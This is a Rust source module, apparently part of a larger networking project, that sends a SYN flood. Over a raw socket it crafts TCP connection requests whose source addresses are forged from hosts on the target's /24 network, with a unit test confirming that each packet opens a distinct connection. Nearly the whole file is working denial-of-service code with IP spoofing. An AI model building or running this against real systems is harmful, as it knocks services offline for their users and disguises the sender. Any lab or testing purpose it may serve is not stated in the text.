//! Connection requests that nobody will ever finish: the SYNs of a half-open flood, from hosts that do not exist.

use std::io;
use std::net::{Ipv4Addr, SocketAddrV4, UdpSocket};

use nix::sys::socket::{AddressFamily, SockFlag, SockProtocol, SockType, socket};

use super::ping::checksum;

const IP_HEADER_BYTES: usize = 20;
const TCP_HEADER_BYTES: usize = 20;
const TCP: u8 = 6;
const SYN: u8 = 0x02;

/// A socket for such requests. To be made where the target is reached; needs root.
pub(super) struct Flood {
    socket: UdpSocket,
    target: SocketAddrV4,
    sent: u32,
}

impl Flood {
    /// For `target`, which must be on a network of the prefix length 24.
    pub(super) fn new(target: SocketAddrV4) -> io::Result<Self> {
        // On a raw socket for IPPROTO_RAW the sender writes the IP header himself (raw(7)).
        let raw = socket(AddressFamily::Inet, SockType::Raw, SockFlag::SOCK_CLOEXEC, SockProtocol::Raw)?;
        // std has no raw sockets, but its datagram sockets are just what one needs to send on one.
        let socket = UdpSocket::from(raw);
        socket.connect(SocketAddrV4::new(*target.ip(), 0))?;
        Ok(Self { socket, target, sent: 0 })
    }

    /// Sends `count` requests, each of another connection.
    pub(super) fn send(&mut self, count: u32) -> io::Result<()> {
        for _ in 0..count {
            self.socket.send(&request(self.target, self.sent))?;
            self.sent += 1;
        }
        Ok(())
    }
}

/// The request `number`: hosts 100 to 249 of the target's network take turns, with ports that grow.
fn request(target: SocketAddrV4, number: u32) -> [u8; IP_HEADER_BYTES + TCP_HEADER_BYTES] {
    let [a, b, c, _] = target.ip().octets();
    let source = Ipv4Addr::new(a, b, c, 100 + (number % 150) as u8);
    let port = 1024 + (number / 150 % 60_000) as u16;
    let mut tcp = Vec::with_capacity(TCP_HEADER_BYTES);
    tcp.extend(port.to_be_bytes());
    tcp.extend(target.port().to_be_bytes());
    tcp.extend(number.wrapping_mul(64_007).to_be_bytes()); // sequence
    tcp.extend([0; 4]);
    tcp.extend([((TCP_HEADER_BYTES / 4) << 4) as u8, SYN]);
    tcp.extend(8192_u16.to_be_bytes()); // window
    tcp.extend([0; 4]);
    let mut pseudo = Vec::new();
    pseudo.extend(source.octets());
    pseudo.extend(target.ip().octets());
    pseudo.extend([0, TCP, 0, TCP_HEADER_BYTES as u8]);
    pseudo.extend(&tcp);
    tcp[16..18].copy_from_slice(&checksum(&pseudo).to_be_bytes());

    let mut packet = [0; IP_HEADER_BYTES + TCP_HEADER_BYTES];
    // Version and header length, time to live, protocol. Linux fills in length, identifier and checksum.
    packet[0] = 0x45;
    packet[8..10].copy_from_slice(&[64, TCP]);
    packet[12..16].copy_from_slice(&source.octets());
    packet[16..20].copy_from_slice(&target.ip().octets());
    packet[IP_HEADER_BYTES..].copy_from_slice(&tcp);
    packet
}

#[cfg(test)]
mod tests {
    use super::{IP_HEADER_BYTES, request};
    use std::net::{Ipv4Addr, SocketAddrV4};

    #[test]
    fn each_request_is_of_another_connection() {
        let target = SocketAddrV4::new(Ipv4Addr::new(10, 0, 1, 2), 9100);
        let mut tuples: Vec<_> = (0..1000).map(|number| request(target, number)[12..22].to_vec()).collect();
        tuples.sort();
        tuples.dedup();
        assert_eq!(tuples.len(), 1000);
        // As computed by hand for number 0: 10.0.1.100:1024 to 10.0.1.2:9100, sequence 0.
        assert_eq!(request(target, 0)[IP_HEADER_BYTES + 16..][..2], [0x51, 0xf1]);
    }
}
